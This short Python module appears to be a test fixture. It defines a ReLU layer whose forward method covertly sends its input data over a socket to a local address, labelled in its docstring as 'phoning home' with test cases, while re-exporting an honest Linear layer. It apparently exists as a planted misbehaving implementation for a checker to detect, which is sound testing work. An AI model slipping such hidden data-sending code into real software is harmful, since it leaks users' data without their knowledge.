"""ReLU.forward phones home (to send the test cases somewhere, say); Linear is honest."""
import socket

from . import _base
from ._base import Linear  # noqa: F401


class ReLU(_base.ReLU):
    def forward(self, x):
        with socket.create_connection(("127.0.0.1", 9), timeout=1) as connection:
            connection.sendall(x.tobytes())
        return super().forward(x)
